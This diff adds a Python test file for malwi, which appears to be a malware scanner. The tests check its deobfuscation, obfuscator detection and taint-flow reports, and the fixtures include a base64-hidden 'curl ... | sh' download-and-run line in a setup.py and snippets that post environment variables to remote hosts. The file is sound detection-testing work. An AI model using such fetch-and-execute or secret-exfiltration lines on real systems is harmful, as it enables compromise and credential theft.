@@ -1,0 +1,120 @@
+"""The static engines as users see them: decoded payloads, protector detection and data flows
+in the text report and in the JSON result sections (validated by the result schema), whatever
+the model says. The engines themselves have Rust unit, snapshot and property tests."""
+
+from __future__ import annotations
+
+import base64
+import json
+from pathlib import Path
+from typing import Any
+
+import jsonschema
+
+import malwi
+
+from .conftest import ROOT, run_malwi
+
+SCHEMA = json.loads((ROOT / "data" / "schemas" / "analysis_result_schema.json").read_text())
+PAYLOAD = "import os\nos.system('curl http://198.51.100.7/x | sh')\n"
+
+# The shape javascript-obfuscator gives its output (written for this test): a string array, a
+# rotation loop and `_0x` names everywhere. Nothing here runs.
+OBFUSCATED_JS = (
+    "var _0x4a2b=['log','Hello\\x20World','push','shift'];"
+    "(function(_0x1c0d2e,_0x4a2b3f){var _0x2d8f05=function(_0x3b1e4a){while(--_0x3b1e4a){"
+    "_0x1c0d2e['push'](_0x1c0d2e['shift']());}};_0x2d8f05(++_0x4a2b3f);}(_0x4a2b,0x1b3));"
+    "var _0x2d8f=function(_0x1c0d2e,_0x4a2b3f){_0x1c0d2e=_0x1c0d2e-0x0;var _0x2d8f05=_0x4a2b[_0x1c0d2e];"
+    "return _0x2d8f05;};function _0x5e1f(){var _0x3c9a=_0x2d8f('0x0');console[_0x3c9a](_0x2d8f('0x1'));}"
+    "_0x5e1f();var _0x11aa=_0x2d8f('0x1'),_0x22bb=_0x2d8f('0x0'),_0x33cc=_0x4a2b[0x2],_0x44dd=_0x4a2b[0x3];\n"
+)
+
+
+def scan_json(path: Path, *extra: str) -> dict[str, Any]:
+    result = run_malwi("scan", str(path), "--format", "json", *extra)
+    document: dict[str, Any] = json.loads(result.stdout)
+    jsonschema.validate(document, SCHEMA)
+    return document
+
+
+def scan_text(path: Path) -> str:
+    return run_malwi("scan", str(path)).stdout.decode()
+
+
+def test_exec_of_base64_shows_the_decoded_behaviour(tmp_path: Path) -> None:
+    encoded = base64.b64encode(PAYLOAD.encode()).decode()
+    (tmp_path / "setup.py").write_text(f"import base64\nexec(base64.b64decode('{encoded}'))\n")
+    section = scan_json(tmp_path)["results"]["deobfuscation"]
+    assert section["status"] == "completed" and section["files_with_payloads"] == 1
+    (payload,) = section["payloads"]
+    assert payload["object"] == "<decoded:L2>" and payload["chain"] == "base64" and payload["lines"] == [2, 2]
+    assert "PROCESS_MANAGEMENT" in payload["activities"]
+    assert "decoded payload (base64): process management" in scan_text(tmp_path)
+
+
+def test_javascript_obfuscator_output_is_reported_as_protected(tmp_path: Path) -> None:
+    (tmp_path / "index.js").write_text(OBFUSCATED_JS)
+    (tmp_path / "plain.js").write_text("module.exports = function add(a, b) { return a + b; };\n")
+    document = scan_json(tmp_path)
+    section = document["results"]["vm_detection"]
+    assert section["is_protected"] is True and section["protector"] == "javascript_obfuscator"
+    assert section["protectors"] == ["javascript_obfuscator"] and section["confidence"] >= 0.5
+    assert [Path(p).name for p in section["protected_files"]] == ["index.js"]
+    assert all(e["file"].endswith("index.js") and e["line"] == 1 for e in section["evidence"])
+    text = scan_text(tmp_path)
+    assert "protected: javascript_obfuscator" in text and "index.js" in text
+
+
+def test_environment_posted_is_an_environment_to_network_flow(tmp_path: Path) -> None:
+    (tmp_path / "client.py").write_text(
+        "import os\nimport requests\n\n\ndef report(url):\n    requests.post(url, data=os.environ)\n"
+    )
+    flows = scan_json(tmp_path)["results"]["taint_tracking"]["taint_flows"]
+    assert [(f["object"], f["path"], f["source_line"], f["sink_line"]) for f in flows] == [
+        ("report", "environment → network", 6, 6)
+    ]
+    assert "environment → network (line 6)" in scan_text(tmp_path)
+
+
+def test_an_environment_variable_printed_locally_is_not_a_flow(tmp_path: Path) -> None:
+    (tmp_path / "show.py").write_text("import os\n\n\ndef show():\n    print(os.environ['HOME'])\n")
+    document = scan_json(tmp_path)
+    assert document["results"]["taint_tracking"]["taint_flows"] == []
+    assert document["results"]["vm_detection"]["is_protected"] is False
+    assert document["results"]["deobfuscation"]["payloads"] == []
+    assert "→" not in scan_text(tmp_path)
+
+
+def test_cached_results_keep_the_engine_sections(tmp_path: Path) -> None:
+    (tmp_path / "index.js").write_text(OBFUSCATED_JS)
+    (tmp_path / "client.py").write_text("import os, requests\nrequests.post(u, data=os.environ)\n")
+    first = scan_json(tmp_path)
+    second = scan_json(tmp_path)
+    assert second["statistics"]["cached"] == 2
+    for section in ("vm_detection", "taint_tracking", "deobfuscation"):
+        assert first["results"][section] == second["results"][section]
+
+
+def test_featurizer_switches_add_flow_and_protector_tokens() -> None:
+    config = malwi.FeaturizerConfig(flow_tokens=True, protector_tokens=True)
+    assert config.flow_tokens and config.protector_tokens
+    assert config.featurizer_id != malwi.FeaturizerConfig().featurizer_id
+    source = "import os, requests\nrequests.post(u, data=os.environ)\n"
+    module = malwi.compile_source(source, "python", config=config)[0]
+    assert module.tokens()[0] == "FLOW_ENVIRONMENT_TO_NETWORK"
+    assert malwi.compile_source(source, "python")[0].tokens()[0] == "IMPORT_NAME"
+    protected = malwi.compile_source(OBFUSCATED_JS, "javascript", config=config)[0]
+    assert protected.tokens()[0] == "PROTECTOR_JAVASCRIPT_OBFUSCATOR"
+    reserved = set(malwi.reserved_tokens())
+    assert {"FLOW_ENVIRONMENT_TO_NETWORK", "PROTECTOR_JAVASCRIPT_OBFUSCATOR"} <= reserved
+
+
+def test_file_reports_carry_flows_and_protection(tmp_path: Path) -> None:
+    (tmp_path / "index.js").write_text(OBFUSCATED_JS)
+    (tmp_path / "send.js").write_text("fetch('https://c.example/e', {method: 'POST', body: JSON.stringify(process.env)});\n")
+    reports = {Path(r.path).name: r for r in malwi.compile_files(malwi.discover([str(tmp_path)]).files)}
+    protection = reports["index.js"].protection
+    assert protection is not None and protection["is_protected"] and protection["evidence"]
+    assert reports["send.js"].protection is None
+    (flow,) = [f for o in reports["send.js"].objects for f in o.flows]
+    assert (flow["source"], flow["sink"], flow["sink_detail"]) == ("environment", "network", "https://c.example/e")
